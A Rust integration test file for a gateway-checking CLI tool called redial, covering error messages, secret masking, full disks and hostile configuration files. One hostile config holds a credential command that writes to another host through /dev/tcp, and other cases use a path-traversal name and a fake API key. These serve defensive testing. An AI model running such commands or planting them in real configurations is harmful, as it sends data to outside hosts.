//! What bad input gets: a clear error in four parts that repeats no value, the documented exit code, nothing lost, and a note
//! wherever a request may have left.
#![expect(clippy::unwrap_used, reason = "a test may unwrap, also in its helpers")]

use std::{
    fs,
    io::ErrorKind,
    net::TcpListener,
    path::Path,
    process::{Command, Stdio},
};

use redial_note::Verdict;
use redial_testkit::{Ran, SCENE_KEY, Scene};

/// A value that must never be repeated, with the shape of a key.
const KEY: &str = "sk-aaaaBBBB1111ccccDDDD2222";

/// Variables, arguments, exit code, and what the error must say.
type Case = (&'static [(&'static str, &'static str)], &'static [&'static str], i32, &'static str);

const CHECK: &[&str] = &["check", "chat", "--model", "m"];

const CASES: &[Case] = &[
    (&[("COMETAPI_API_KEY", KEY)], CHECK, 2, "two credentials are set, and they differ"),
    (&[("COMETAPI_KEY", "<API_KEY_PLACEHOLDER>")], CHECK, 2, "it is a placeholder"),
    (&[("COMETAPI_KEY", "undefined")], CHECK, 2, "it is a placeholder"),
    (&[("COMETAPI_KEY", "sk-with a space inside")], CHECK, 2, "COMETAPI_KEY"),
    (
        &[("COMETAPI_BASE_URL", "https://me:sk-aaaaBBBB1111ccccDDDD2222@x.example/v1")],
        CHECK,
        2,
        "user name or password",
    ),
    (&[("COMETAPI_BASE_URL", "https://x.example/v1/v1")], CHECK, 2, "twice"),
    (&[("COMETAPI_BASE_URL", "https://x.example/v1?key=sk-aaaaBBBB1111ccccDDDD2222")], CHECK, 2, "COMETAPI_BASE_URL"),
    (&[("COMETAPI_BASE_URL", "http://x.example/v1")], CHECK, 2, "plain http"),
    (&[("COMETAPI_BASE_URL", "x.example/v1")], CHECK, 2, "https://"),
    (&[], &["check", "chatt", "--model", "m"], 2, "one of: chat, responses, messages, gemini, models"),
    (&[], &["check", "chat"], 2, "no model was named"),
    (&[], &["check"], 2, "no family was named"),
    (&[], &["check", "chat", "--model", KEY], 2, "--model"),
    (&[], &["check", "chat", "--model", "m", "--max-attempts", "6"], 2, "from 1 to 5"),
    (&[], &["check", "chat", "--model", "m", "--max-wait", "soon"], 2, "a duration"),
    (&[], &["check", "models", "--error-path", "missing-field"], 2, "needs a body"),
    (&[], &["check", "models", "--stream"], 2, "no stream"),
    (
        &[],
        &["check", "chat", "--model", "m", "--operator-note", "it is sk-aaaaBBBB1111ccccDDDD2222"],
        2,
        "--operator-note",
    ),
    (&[], &["check", "chat", "--model", "m", "--name", "../../etc/x"], 2, "--name"),
    (&[], &["check", "chat", "--model", "m", "--upstream", "https://elsewhere.example"], 2, "try:"),
    (&[], &["check", "chat", "--model", "m", "--note-dir", "a-file/below"], 1, "no place for the note"),
    (&[], &["check", "chat", "--model", "m", "--ca-file", "/dev/zero"], 2, "no regular file"),
    (&[], &["check", "chat", "--model", "m", "--ca-file", "a-pipe"], 2, "no regular file"),
    (&[], &["check", "chat", "--model", "m", "--ca-file", "a-large-file"], 2, "larger than 16 MiB"),
    (&[], &["check", "chat", "--model", "m", "--secret-env", "NOT_SET"], 2, "--secret-env"),
    (&[], &["check", "chat", "--sk-aaaaBBBB1111ccccDDDD2222"], 2, "an argument is not known"),
    (&[("CI", "true")], &["check", "chat", "--simulate"], 2, "refused in CI"),
    (&[], &["show"], 1, "there is no note here"),
    (&[], &["show", "nowhere.json"], 1, "cannot be read"),
    (&[], &["recover", "nowhere.journal.jsonl"], 1, "cannot be read"),
    (&[], &["sign-off", "maybe", "--note", "x"], 2, "pass or fail"),
    (&[], &["verify", "a-file"], 20, "altered"),
    (&[], &["simulator", "--listen", "0.0.0.0:0"], 2, "try:"),
];

/// Malformed configuration files, and what the error must say. Values are masked.
const FILES: &[(&str, &str)] = &[
    ("modle = \"m\"\n", "redial.toml:1:1"),
    ("model = 5\n", "redial.toml:1:9"),
    ("[gateway]\napi_key = \"sk-aaaaBBBB1111ccccDDDD2222\"\n", "redial.toml:2:"),
    ("model = \"sk-aaaaBBBB1111ccccDDDD2222\"\n", "redial.toml:1:"),
    ("model = \"m\nx = 1", "redial.toml:1:"),
    ("[check]\nmax_attempts = 99\n", "redial.toml:2:16"),
];

fn scene(script: Option<&str>) -> Scene {
    Scene::new(Path::new(env!("CARGO_BIN_EXE_redial")), script).unwrap()
}

#[expect(clippy::disallowed_methods, reason = "a test writes what a user would")]
fn write(path: &Path, text: &str) {
    fs::write(path, text).unwrap();
}

fn pipe(path: &Path) {
    assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
}

fn run(mut command: Command) -> Ran {
    Ran::from(command.stdin(Stdio::null()).output().unwrap())
}

#[test]
fn each_is_told_what_where_why_and_what_to_try() {
    let scene = scene(None);
    write(&scene.dir().join("a-file"), "x");
    pipe(&scene.dir().join("a-pipe"));
    fs::File::create(scene.dir().join("a-large-file")).and_then(|file| file.set_len(17 * 1024 * 1024)).unwrap();
    for (variables, args, code, says) in CASES {
        let mut command = scene.command(args);
        command.envs(variables.iter().copied());
        let ran = run(command);
        let what = format!("{variables:?} {args:?}: {ran:?}");
        assert_eq!(ran.code, Some(*code), "{what}");
        let said = format!("{}{}", ran.stdout, ran.stderr);
        assert!(said.contains(says), "{what}");
        assert!(!ran.stderr.contains(KEY) && !said.contains("panicked"), "{what}");
        if *says != "altered" {
            assert!(
                ran.stderr.contains("error: ") && ran.stderr.contains("why: ") && ran.stderr.contains("try: "),
                "{what}"
            );
        }
    }
    assert!(scene.truth().unwrap().is_empty(), "nothing was sent");
}

#[test]
fn a_pipe_among_the_notes_holds_up_nobody_who_reads_them() {
    let scene = scene(None);
    fs::create_dir(scene.dir().join("redial-notes")).unwrap();
    let pipe_path = "redial-notes/a-pipe.json";
    pipe(&scene.dir().join(pipe_path));
    let readers: [&[&str]; 9] = [
        &["show"],
        &["show", pipe_path],
        &["verify", pipe_path],
        &["verify", "redial-notes"],
        &["repeat"],
        &["repeat", "--command"],
        &["sign-off", "pass", "--note", "x", "--by", "me"],
        &["diff", pipe_path, pipe_path],
        &["rehearse", "--from", pipe_path, "--", "true"],
    ];
    for args in readers {
        let ran = run(scene.command(args));
        let said = format!("{}{}", ran.stdout, ran.stderr);
        assert!(ran.code == Some(1) && said.contains("it is no regular file"), "{args:?}: {ran:?}");
    }
}

#[test]
fn a_malformed_file_is_shown_with_its_values_masked() {
    for (text, place) in FILES {
        let scene = scene(None);
        write(&scene.dir().join("redial.toml"), text);
        let ran = scene.run(CHECK).unwrap();
        assert_eq!(ran.code, Some(2), "{text}: {ran:?}");
        assert!(ran.stderr.contains(place) && !ran.stderr.contains(KEY), "{text}: {ran:?}");
        assert!(scene.truth().unwrap().is_empty());
    }
}

#[test]
fn without_a_credential_a_note_says_so_and_nothing_is_sent() {
    let scene = scene(None);
    let mut command = scene.command(CHECK);
    command.env_remove("COMETAPI_KEY");
    let ran = run(command);
    assert_eq!(ran.code, Some(10), "{ran:?}");
    let note = ran.note().unwrap();
    assert!(note.calls.is_empty() && note.decision.result == Verdict::Pause);
    assert!(note.findings.iter().any(|finding| finding.message.as_str().contains("secret_not_provided")));
    assert!(scene.truth().unwrap().is_empty());
}

#[test]
fn it_works_without_home_user_repository_and_standard_output() {
    let scene = scene(None);
    let docs = format!("{}/docs/chat", scene.simulator().origin());
    let args = ["check", "chat", "--model", "sim-model-1", "--docs", &docs];
    let mut command = scene.command(&args);
    let ran = run({
        command.env_remove("HOME").env_remove("PATH");
        command
    });
    assert_eq!(ran.code, Some(0), "{ran:?}");
    assert!(ran.note().unwrap().fingerprint_key.as_str().starts_with("run-"));
    // A closed standard output: the note is there, and the decision is the exit code.
    let redial = env!("CARGO_BIN_EXE_redial");
    let shell = format!("exec {redial} {} >&-", args.join(" "));
    let mut command = scene.command(&[]);
    let closed = {
        let mut sh = Command::new("/bin/sh");
        sh.args(["-c", &shell]).current_dir(scene.dir()).env_clear();
        sh.envs(command.get_envs().filter_map(|(name, value)| Some((name, value?))));
        run(sh)
    };
    assert_eq!(closed.code, Some(0), "{closed:?}");
    assert!(closed.note().is_some());
    // One that is full: Redial says so, and the note is there all the same.
    let full = run({
        command.args(args);
        let full = fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
        let child = command.stdin(Stdio::null()).stdout(full).stderr(Stdio::piped()).spawn().unwrap();
        let ran = Ran::from(child.wait_with_output().unwrap());
        assert!(ran.stderr.contains("standard output cannot be written"), "{ran:?}");
        assert_eq!(ran.code, Some(1));
        Command::new("true")
    });
    assert_eq!(full.code, Some(0));
}

#[test]
fn a_named_secret_is_searched_for_in_a_note_by_who_has_it() {
    let scene = scene(None);
    let ran = scene.check("chat", &["--operator-note", "checked before the ferry to Hiiumaa leaves"]).unwrap();
    let path = ran.note_path().unwrap();
    for (value, code) in [("ferry to Hiiumaa", 20), ("ferry to Saaremaa", 0)] {
        let mut command = scene.command(&["verify", path.to_str().unwrap(), "--secret-env", "THEIRS"]);
        command.env("THEIRS", value);
        let ran = run(command);
        assert_eq!(ran.code, Some(code), "{ran:?}");
        assert!(!ran.stdout.contains(value) && !ran.stderr.contains(value));
    }
}

#[test]
fn a_base_url_without_version_is_as_good() {
    let scene = scene(None);
    let docs = format!("{}/docs/messages", scene.simulator().origin());
    let mut command = scene.command(&["check", "messages", "--model", "sim-model-1", "--docs", &docs]);
    command.env("COMETAPI_BASE_URL", scene.simulator().origin());
    let ran = run(command);
    assert_eq!(ran.code, Some(0), "{ran:?}");
}

#[test]
fn a_disk_that_is_full_loses_nothing_of_what_was_sent() {
    // A limit on the size of files is the disk that a test can fill: 4 KiB, and writing more fails.
    for kib in [4, 8, 16] {
        let scene = scene(None);
        let docs = format!("{}/docs/chat", scene.simulator().origin());
        let redial = env!("CARGO_BIN_EXE_redial");
        let shell =
            format!("trap '' XFSZ; ulimit -f {}; exec {redial} check chat --model sim-model-1 --docs {docs}", kib * 2);
        let command = scene.command(&[]);
        let mut sh = Command::new("/bin/sh");
        sh.args(["-c", &shell]).current_dir(scene.dir()).env_clear();
        sh.envs(command.get_envs().filter_map(|(name, value)| Some((name, value?))));
        let ran = run(sh);
        assert!(!ran.stderr.contains("panicked"), "{ran:?}");
        let seen = scene.truth().unwrap().len();
        if ran.code == Some(0) {
            continue;
        }
        assert!(matches!(ran.code, Some(1 | 10 | 20)), "{kib}: {ran:?}");
        let folder = scene.dir().join("redial-notes");
        let mut recorded = 0;
        for path in fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().path()) {
            if path.to_string_lossy().ends_with(".journal.jsonl") && ran.note_path().is_none() {
                scene.run(&["recover", path.to_str().unwrap()]).unwrap();
            }
        }
        for path in fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().path()) {
            if path.extension().is_some_and(|end| end == "json") {
                let note: redial_note::Note = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
                assert_ne!(note.decision.result, Verdict::Continue);
                recorded += note.calls.iter().map(|call| call.attempts.len()).sum::<usize>();
            }
        }
        assert!(recorded >= seen, "{kib}: {recorded} recorded, {seen} seen: {ran:?}");
    }
}

#[test]
fn a_hostile_checkout_gets_no_byte_and_no_key() {
    let elsewhere = TcpListener::bind("127.0.0.1:0").unwrap();
    elsewhere.set_nonblocking(true).unwrap();
    let address = elsewhere.local_addr().unwrap();
    let hostile = [
        format!("[gateway]\nbase_url = \"http://{address}/v1\"\n"),
        format!("[sources]\ndocs = \"http://{address}/docs\"\n"),
        "[gateway]\nca_file = \"evil.pem\"\n".to_owned(),
        format!(
            "credential = {{ command = [\"sh\", \"-c\", \"echo x > /dev/tcp/{}\"] }}\n",
            address.to_string().replace(':', "/")
        ),
        format!("[gateway]\nname = \"x\"\nbase_url = \"http://{address}/v1\"\n[note]\ndir = \"/tmp\"\n"),
    ];
    for text in &hostile {
        let scene = scene(None);
        write(&scene.dir().join("redial.toml"), text);
        for args in [CHECK, &["doctor", "--offline"], &["show"], &["sources", "check", "chat"]] {
            let ran = scene.run(args).unwrap();
            assert_ne!(ran.code, Some(0), "{text} {args:?}: {ran:?}");
            assert!(!ran.stderr.contains(SCENE_KEY) && !ran.stdout.contains(SCENE_KEY));
        }
        let ran = scene.run(CHECK).unwrap();
        assert_eq!(ran.code, Some(2), "{text}: {ran:?}");
        assert!(ran.stderr.contains("redial trust"), "{text}: {ran:?}");
        assert!(scene.truth().unwrap().is_empty());
    }
    // A forged note with an address in it is shown and verified without a byte leaving.
    let scene = scene(None);
    let ran = scene.check("chat", &[]).unwrap();
    let text = fs::read_to_string(ran.note_path().unwrap()).unwrap();
    let forged = scene.dir().join("forged.json");
    write(&forged, &text.replace(scene.simulator().origin(), &format!("http://{address}")));
    for command in ["show", "verify"] {
        let ran = scene.run(&[command, forged.to_str().unwrap()]).unwrap();
        assert_eq!(ran.code, Some(20), "{ran:?}");
    }
    assert_eq!(elsewhere.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "somebody connected elsewhere");
}
